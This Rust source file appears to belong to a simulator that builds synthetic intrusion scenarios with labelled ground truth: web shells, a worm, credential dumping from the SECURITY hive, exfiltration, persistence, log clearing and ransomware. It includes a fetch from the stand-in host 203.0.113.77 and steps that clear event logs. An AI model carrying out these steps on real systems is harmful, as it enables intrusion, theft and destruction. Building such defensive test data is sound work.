//! How attacks of the sealed set go on after the page: what the worm does, what the spies do, and the ransom.

use super::super::Habits;
use super::{plays, ransom as lock, spies, works, worm as body};
use crate::attack::directory::{ADDRESS_BOOK, ADMIN_CENTRE};
use crate::attack::page_use::Processes;
use crate::attack::shell::Line;
use crate::attack::{Attack, Page};
use crate::event::make::CommandLines;
use crate::format::process::ProcessLogs;
use crate::format::web::Keys;
use crate::format::{page, whole};
use crate::moment::{HOUR, MINUTE, SECOND};
use crate::scenario::at;
use crate::server::{Encoding, Mark, Server};
use crate::technique::Technique;
use crate::truth::{ActorKind, Weight};

/// A page that lives for seconds: it fetches the worm, which makes itself at home and deletes the page.
pub(super) fn worm(server: &mut Server, habits: &'static Habits) {
    works::ordinary(server, habits, plays::BLIND);
    let who = habits.intruders[1];
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 0, 19, 3));
    attack.locate();
    attack.take_session();
    for page in who.pages {
        attack.plant_by_url(page, &page::one_line(who.item));
        let keys = attack.visit(page);
        let [fetch, remove] = &body::SHELLS;
        let now = attack.time;
        attack.send(page, fetch, keys);
        attack.time = now.plus(2 * SECOND);
        attack.scripts(&[body::BLOCK]);
        attack.time = now.plus(6 * SECOND);
        settle_in(&mut attack);
        attack.send(page, remove, keys);
        let path = page.path(&attack.server.host);
        attack.server.lose(|lost, _| lost == path);
        attack.time = at(habits, 2, 19, 3);
        attack.miss_page(page, 2);
    }
}

/// The worm's body: its service, its rule of the firewall, and what it runs.
fn settle_in(attack: &mut Attack<'_>) {
    let first = ("C:\\Windows\\zsvc.exe", "\"C:\\Windows\\zsvc.exe\"");
    attack.child(first, body::BODY, (Technique::ShellProcess, Weight::Must));
    attack.services(&[body::SERVICE]);
    attack.open_firewall("Banner Host", "C:\\Windows\\sqhost.exe");
    let [archive, settings] = body::LEFT;
    attack.leave_weighed(&[archive], Weight::Supporting);
    for (image, command, technique, weight) in body::CHILDREN {
        attack.child(body::BODY, (image, command), (technique, weight));
        attack.time = attack.time.plus(70 * SECOND);
    }
    attack.leave_weighed(&[settings], Weight::Supporting);
}

/// Two pages by two directories; over five nights a look around, tools, credentials, mail, archives, and ways back in.
pub(super) fn aftermath(server: &mut Server, habits: &'static Habits) {
    works::ordinary(server, habits, ProcessLogs::Audit(CommandLines::Kept));
    let who = habits.intruders[0];
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 0, 15, 22));
    attack.guess(3);
    attack.locate();
    attack.take_session();
    for (page, directory) in who.pages.iter().zip([ADDRESS_BOOK, ADMIN_CENTRE]) {
        attack.plant_by_directory(page, &page::one_line(who.item), &directory);
        attack.time = attack.time.plus(47 * MINUTE);
    }
    let [page, second] = who.pages else { return };
    attack.work(page, &spies::LOOK_AROUND);
    attack.time = at(habits, 1, 8, 15);
    let lost = second.path(&attack.server.host);
    attack.found_by_defender(habits.aftermath.threat, &lost);
    attack.server.lose(|path, _| path == lost);
    attack.time = at(habits, 1, 15, 4);
    take(&mut attack, habits, page);
    attack.time = at(habits, 2, 16, 12);
    read_and_pack(&mut attack, habits, page);
    attack.time = at(habits, 3, 15, 40);
    stay(&mut attack, habits, page);
    attack.time = at(habits, 5, 14, 9);
    attack.redirect(habits.aftermath.hosts);
    attack.typed(habits.aftermath.typed);
    let keys = attack.visit(page);
    then(&mut attack, page, keys, &spies::COVER, |attack| {
        attack.clear_channels(&["Microsoft-Windows-TaskScheduler/Operational"]);
    });
}

/// A line, and what it leaves a second later.
fn then(attack: &mut Attack<'_>, page: &Page, keys: Keys, line: &Line, leaves: impl FnOnce(&mut Attack<'_>)) {
    let now = attack.time;
    attack.send(page, line, keys);
    let next = attack.time;
    attack.time = now.plus(2 * SECOND);
    leaves(attack);
    attack.time = attack.time.max(next);
}

fn take(attack: &mut Attack<'_>, habits: &'static Habits, page: &Page) {
    let after = habits.aftermath;
    let keys = attack.visit(page);
    let [script, fetch, hide, exclude] = &spies::BRING;
    for line in [script, fetch, hide] {
        attack.send(page, line, keys);
    }
    then(attack, page, keys, exclude, |attack| attack.exclude(after.exclusion));
    let [dump, leak, copy, passwords] = &spies::TAKE;
    then(attack, page, keys, dump, |attack| attack.leave(after.left.get(..1).unwrap_or_default()));
    attack.send(page, leak, keys);
    then(attack, page, keys, copy, |attack| {
        attack.leave_hive("C:\\ProgramData\\Mozilla\\SECURITY", "SECURITY", "Policy\\Secrets\\DPAPI_SYSTEM");
    });
    attack.send(page, passwords, keys);
    attack.scripts(after.scripts.get(..1).unwrap_or_default());
}

fn read_and_pack(attack: &mut Attack<'_>, habits: &'static Habits, page: &Page) {
    let after = habits.aftermath;
    attack.manage(after.management);
    attack.scripts(after.scripts.get(1..).unwrap_or_default());
    attack.time = attack.time.plus(3 * HOUR);
    let keys = attack.visit(page);
    let [pack, picture, send] = &spies::PACK;
    for (line, left) in [pack, picture].into_iter().zip(after.left.get(1..).unwrap_or_default()) {
        then(attack, page, keys, line, |attack| attack.leave(&[*left]));
    }
    attack.send(page, send, keys);
    attack.fetch(after.fetched);
}

fn stay(attack: &mut Attack<'_>, habits: &'static Habits, page: &Page) {
    let after = habits.aftermath;
    let keys = attack.visit(page);
    let [remote, remote_task, proxy, tunnel, audit] = &spies::GO_ON;
    attack.send(page, remote, keys);
    attack.send(page, remote_task, keys);
    attack.send(page, proxy, keys);
    let (path, text) = spies::SETTINGS;
    lay(attack, path, text, Technique::Tunnel, "the settings of a tool that carries connections outside");
    attack.send(page, tunnel, keys);
    then(attack, page, keys, audit, |attack| attack.stop_audit());
    let [service, job, account, group, module] = &spies::STAY;
    attack.send(page, service, keys);
    then(attack, page, keys, job, |attack| attack.transfer("fxsync", "http://203.0.113.77/fx.cab"));
    then(attack, page, keys, account, |attack| attack.wake_account(after.account, 503));
    attack.send(page, group, keys);
    then(attack, page, keys, module, |attack| attack.module(after.module));
    attack.services(after.services);
    attack.registry(after.registry);
    attack.tasks(after.tasks);
    let (path, text) = spies::AT_START;
    lay(attack, path, text, Technique::StartUpFile, "a script that is run at each sign-in");
}

/// A text of theirs that must be named.
fn lay(attack: &mut Attack<'_>, path: &str, text: &str, technique: Technique, about: &str) {
    let key = attack.server.key(Mark::must(technique, attack.actor, format!("{path}: {about}")));
    let time = attack.time;
    attack.server.text(path, &whole(text), Encoding::Plain, time, &[]);
    attack.server.tie(path, key);
    attack.pause();
}

/// A page that rests for six days; then remote care, scripts that clear the way, and the disks are locked.
pub(super) fn ransom(server: &mut Server, habits: &'static Habits) {
    works::ordinary(server, habits, ProcessLogs::Neither);
    let who = habits.intruders[2];
    let mut attack = Attack::begin(server, who, ActorKind::Intruder, at(habits, 0, 10, 19));
    attack.knock();
    attack.locate();
    attack.take_session();
    for page in who.pages {
        attack.plant_by_url(page, &page::one_line(who.item));
        attack.use_page(page, Processes::Kept);
        attack.time = at(habits, 6, 20, 50);
        attack.use_page(page, Processes::Kept);
    }
    attack.exclude(lock::FOLDER);
    let [fetch, care, products, copies, services] = lock::PREPARE;
    attack.scripts(&[fetch]);
    attack.leave_weighed(&lock::LEFT, Weight::Supporting);
    attack.scripts(&[care]);
    attack.services(lock::SERVICES.get(..1).unwrap_or_default());
    attack.account("help");
    attack.time = at(habits, 8, 1, 7);
    attack.stop_protection();
    attack.scripts(&[products]);
    let (path, text) = lock::SCRIPT;
    lay(&mut attack, path, text, Technique::Ransom, "a script that takes away what could be restored from");
    attack.tasks(&lock::TASKS);
    attack.scripts(&[copies, services]);
    attack.registry(&lock::POLICY);
    let [disks, logs] = lock::LOCK;
    attack.scripts(&[disks, logs]);
    attack.clear_channels(&["Application", "Windows PowerShell"]);
    attack.ransom(&habits.aftermath.ransom);
}
